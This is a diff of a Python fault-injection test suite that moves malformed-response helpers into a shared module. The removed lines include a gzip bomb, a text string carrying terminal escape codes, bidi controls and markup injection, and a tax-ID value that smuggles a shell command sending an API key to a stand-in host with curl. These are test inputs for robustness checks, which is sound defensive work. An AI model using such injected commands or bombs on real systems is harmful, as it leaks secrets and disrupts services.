@@ -15,6 +15,7 @@ from collections.abc import Awaitable, Callable
 from dataclasses import dataclass
 from typing import Final
 
+from tests.faulty.bodies import EVIL_TAX_ID, bomb, twisted, with_nasty_text
 from tests.faulty.exchange import Exchange, HangUp
 from tests.faulty.healthy import http_date
 
@@ -92,18 +93,7 @@ async def _wrong_length(exchange: Exchange) -> None:
 
 @_fault("gzip-bomb", "packs 30 MB of blanks into 30 kB")
 async def _gzip_bomb(exchange: Exchange) -> None:
-    await exchange.send(_bomb(), content_encoding="gzip")
-
-
-def _bomb() -> bytes:
-    if not _BOMB:
-        packer = zlib.compressobj(wbits=31)
-        piece = b" " * 1_000_000
-        _BOMB.append(b"".join(packer.compress(piece) for _ in range(30)) + packer.flush())
-    return _BOMB[0]
-
-
-_BOMB: Final[list[bytes]] = []
+    await exchange.send(bomb(), content_encoding="gzip")
 
 
 @_fault("gzip-padding", "sends 5 MB of packed body that unpack to a small, good answer")
@@ -171,39 +161,15 @@ _body(
 @_fault("wrong-types", "sends every field with a value of another type")
 async def _wrong_types(exchange: Exchange) -> None:
     envelope = exchange.envelope()
-    envelope["data"] = _twisted(envelope["data"], outermost=True)
+    envelope["data"] = twisted(envelope["data"], outermost=True)
     await exchange.send_json(envelope)
-
-
-def _twisted(value: object, *, outermost: bool = False) -> object:
-    if isinstance(value, dict) and outermost:
-        return {name: _twisted(inner) for name, inner in value.items()}
-    if isinstance(value, list) and outermost:
-        return [_twisted(inner, outermost=True) for inner in value]
-    return 5 if isinstance(value, str | list | dict | bool) else "5"
 
 
 @_fault("nasty-text", "puts escapes, bidi controls, markup and towers of marks into texts")
 async def _nasty_text(exchange: Exchange) -> None:
     envelope = exchange.envelope()
-    envelope["data"] = _nasty(envelope["data"])
+    envelope["data"] = with_nasty_text(envelope["data"])
     await exchange.send_json(envelope)
-
-
-NASTY: Final = (
-    "\x1b]0;owned\x07\x1b[2J\x9b31m\u202etxt\u200b\ud800[@click=app.quit]x[/] a" + "\u0301" * 50
-)
-
-
-EVIL_TAX_ID: Final = "1'; curl evil.invalid/?k=$FIRMETERM_API_KEY #"
-
-
-def _nasty(value: object) -> object:
-    if isinstance(value, dict):
-        return {n: v if n == "taxId" else _nasty(v) for n, v in value.items()}
-    if isinstance(value, list):
-        return [_nasty(inner) for inner in value]
-    return value + NASTY if isinstance(value, str) else value
 
 
 def _remaining(name: str, does: str, remaining: Callable[[Exchange], object]) -> None:
